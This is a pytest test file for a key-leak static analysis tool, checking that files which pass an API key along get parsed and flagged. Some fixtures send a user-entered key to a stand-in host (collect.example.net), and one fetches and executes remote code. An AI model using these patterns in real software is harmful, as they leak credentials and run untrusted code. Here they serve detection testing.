"""Only the files that can take part in a key's flow are parsed; the others are read and
counted. Each test is a flow that passes through a file that names no key itself: the file
must still be analyzed, or the finding is lost."""
from __future__ import annotations

import pytest

from trustcheck.config import load_settings
from trustcheck.engine.file_graph import file_graph
from trustcheck.engine.pipeline import analyze_sources
from trustcheck.engine.relevance import relevant_files
from trustcheck.engine.text_facts import text_facts
from trustcheck.files import SourceFile, discover

from test_names import KEY_ENV_NAMES, KEY_FIELDS, KEY_IDENTIFIERS, KEY_LABELS, KEY_WIDGETS


def _found(report) -> set[tuple[str, str]]:
    return {(f.rule, f.file) for f in report.findings}


def _relevant(texts: dict[str, str]) -> set[str]:
    language = {"py": "python", "js": "javascript", "ts": "typescript", "html": "markup"}
    files = [SourceFile("/nowhere/" + rel, rel, language[rel.rsplit(".", 1)[1]], len(text))
             for rel, text in texts.items()]
    return relevant_files(file_graph(files, [text_facts(f, texts[f.rel]) for f in files]))


def test_files_that_name_no_key_and_touch_none_are_counted_not_parsed(scan_app):
    report = scan_app({
        "app.py": 'import streamlit as st\nkey = st.text_input("OpenAI API key")\nprint(key)\n',
        "charts/plot.py": "def plot(rows):\n    return [r * 2 for r in rows]\n",
        "charts/broken.py": "def f(:\n",
    })
    assert ("key-in-log-call", "app.py") in _found(report)
    assert report.coverage.files == 3 and report.coverage.parsed_with_errors == []


def test_what_names_a_key_is_what_the_catalog_calls_one():
    texts = {
        "env.py": 'import os\nx = os.getenv("GROQ_API_KEY")\n',
        "label.py": 'import streamlit as st\nx = st.text_input("Your Anthropic key")\n',
        "camel.ts": "export const save = (openAiKey: string) => openAiKey;\n",
        "header.js": 'fetch(u, { headers: { "x-api-key": k } });\n',
        "hidden.py": "import getpass\nx = getpass.getpass()\n",
        "page.html": '<input type="password" id="k">\n',
        "route.py": "from fastapi import FastAPI\napp = FastAPI()\n"
                    "@app.get('/')\ndef root(token: str):\n    return 1\n",
        "remote.py": "import requests\nexec(requests.get(u).text)\n",
        "list.js": "items.map((item) => <li key={item.id}>{item.title}</li>);\n",
        "sort.py": "rows = sorted(rows, key=len)\nmodel.eval()\npattern = re.compile('x')\n",
        "tokens.py": "def count(text):\n    return len(text.split())  # tokens, not keys\n",
    }
    assert _relevant(texts) == {"env.py", "label.py", "camel.ts", "header.js", "hidden.py", "page.html",
                                "route.py", "remote.py"}


@pytest.mark.parametrize("line", [f"{name} = load()" for name in KEY_IDENTIFIERS]
                         + [f'value = headers["{name}"]' for name in KEY_FIELDS]
                         + [f'value = os.getenv("{name}")' for name in KEY_ENV_NAMES]
                         + [f'value = ask("{label}")' for label in KEY_LABELS]
                         + [f'field = document.getElementById("{name}")' for name in KEY_WIDGETS])
def test_every_name_the_catalog_calls_a_key_makes_its_file_parsed(line):
    assert _relevant({"a.py": f"import x\n{line}\n", "b.py": "y = 1\n"}) == {"a.py"}


def test_text_whose_lower_case_is_longer_is_read_to_its_end():
    texts = {"a.py": "# İstanbul İzmir\nx = 1\n" * 3 + "api_key = load()  # key\n", "b.py": "# İ key\n"}
    assert _relevant(texts) == {"a.py"}


def test_a_helper_module_handed_the_key_is_analyzed(scan_app):
    report = scan_app({
        "app.py": 'import streamlit as st\nfrom util.net import send\nsend(st.text_input("API key"))\n',
        "util/net.py": 'import requests\n\ndef send(value):\n    requests.post("https://collect.example.net/x", '
                       'data=value)\n',
    })
    assert ("key-sent-to-third-party", "util/net.py") in _found(report)


def test_a_module_calling_a_function_that_returns_the_key_is_analyzed(scan_app):
    report = scan_app({
        "config.py": 'import os\n\ndef get():\n    return os.environ["OPENAI_API_KEY"]\n',
        "main.py": "import logging\nfrom config import get\nlogging.warning(get())\n",
    })
    assert ("key-in-log-call", "main.py") in _found(report)


def test_a_module_reading_the_key_another_kept_in_a_shared_module_is_analyzed(scan_app):
    report = scan_app({
        "state.py": "VALUE = None\n\ndef remember(value):\n    global VALUE\n    VALUE = value\n",
        "page.py": 'import streamlit as st\nimport state\nstate.remember(st.text_input("API key"))\n',
        "report.py": "import logging\nimport state\n\ndef run():\n    logging.warning(state.VALUE)\n",
    })
    assert ("key-in-log-call", "report.py") in _found(report)


def test_a_module_reading_the_key_kept_in_a_library_is_analyzed(scan_app):
    report = scan_app({
        "page.py": 'import streamlit as st\nimport appsettings\nappsettings.value = st.text_input("API key")\n',
        "report.py": "import logging\nimport appsettings\n\ndef run():\n    logging.warning(appsettings.value)\n",
    })
    assert ("key-in-log-call", "report.py") in _found(report)


def test_a_request_handler_logging_the_whole_body_is_analyzed_when_the_app_reads_a_key_field(scan_app):
    report = scan_app({
        "server/keys.js": 'const express = require("express");\nconst r = express.Router();\n'
                          'r.post("/key", (req, res) => { res.json({ ok: !!req.body.apiKey }); });\n'
                          "module.exports = r;\n",
        "server/chat.js": 'const express = require("express");\nconst r = express.Router();\n'
                          'r.post("/chat", (req, res) => { console.log(req.body); res.json({}); });\n'
                          "module.exports = r;\n",
    })
    assert any(rule == "key-in-log-call" and path == "server/chat.js" for rule, path in _found(report))


def test_a_module_reading_back_the_environment_another_wrote_is_analyzed(scan_app):
    report = scan_app({
        "page.py": 'import os\nimport streamlit as st\nos.environ["SETTING"] = st.text_input("API key")\n',
        "worker.py": 'import logging\nimport os\n\ndef run():\n    logging.warning(os.environ["SETTING"])\n',
    })
    assert ("key-in-log-call", "worker.py") in _found(report)


def test_scripts_of_another_page_share_the_key_pages_globals(scan_app):
    report = scan_app({
        "index.html": '<input type="password" id="k"><script src="save.js"></script>\n',
        "other.html": '<script src="send.js"></script>\n',
        "save.js": 'var saved = document.getElementById("k").value;\n',
        "send.js": 'function ping() { fetch("https://collect.example.net/p?v=" + saved); }\nping();\n',
    })
    assert ("key-sent-to-third-party", "send.js") in _found(report)


def _library_state(folder, texts: dict[str, str]) -> set[tuple[str, ...]]:
    folder.mkdir()
    for rel, text in texts.items():
        (folder / rel).write_text(text, encoding="utf-8")
    settings = load_settings({}, workers=1)
    return analyze_sources(discover(folder, settings).sources, settings).libraries


def test_the_key_written_to_the_environment_is_library_state_but_not_a_field_of_a_variable(tmp_path):
    python = 'import os\nimport sys\nos.environ[sys.argv[1]] = input("API key")\n'
    assert _library_state(tmp_path / "py", {"a.py": python}) == {("environ",)}
    assert _library_state(tmp_path / "js", {"b.js": 'const slot = process.env[process.argv[2]] || {};\n'
                                             'slot.value = prompt("API key");\nconsole.log(slot.value);\n'}) == set()
